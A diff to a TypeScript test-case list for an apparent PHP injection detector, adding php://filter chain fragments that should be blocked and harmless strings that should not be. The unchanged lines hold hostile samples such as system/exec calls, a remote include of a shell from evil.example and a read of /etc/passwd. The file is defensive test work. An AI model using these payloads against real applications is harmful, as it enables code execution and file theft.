@@ -38,6 +38,13 @@ export const phpCases: readonly PhpCase[] = [
   { input: "array_map('system', ['id'])", expect: CALL },
   { input: 'exec/**/("id")', expect: CALL },
   { input: 'exec #note\n("id")', expect: CALL },
+  // The links of a php://filter chain, sent alone.
+  { input: 'convert.iconv.UTF8.CSISO2022KR', expect: 'php/filter-chain', blocks: true },
+  {
+    input: 'convert.iconv.CP1390.CSIBM932|convert.base64-decode|string.rot13',
+    expect: 'php/filter-chain',
+    blocks: true,
+  },
   // Includes of what PHP runs: a URL or wrapper, an absolute or climbing path, a file with an extension.
   { input: "include('http://evil.example/shell.txt')", expect: CALL, blocks: true },
   { input: "require_once('/etc/passwd')", expect: CALL, blocks: true },
@@ -262,6 +269,8 @@ export const phpCases: readonly PhpCase[] = [
   { input: 'sess_short', kind: 'header-value', location: 'header.x-filename', expect: null },
   { input: 'debug = true', expect: null },
   { input: 'Queso Manchego', expect: null },
+  { input: 'string.rot13 is a PHP filter', expect: null },
+  { input: 'convert to string.', expect: null },
   // JavaScript: `require` of a module by name, and a bundler's `include(...)` of filter calls.
   { input: "var colors = require('@colors/colors');", expect: null },
   { input: 'const http = require("http")\nconst { stdout } = require("node:process");', expect: null },
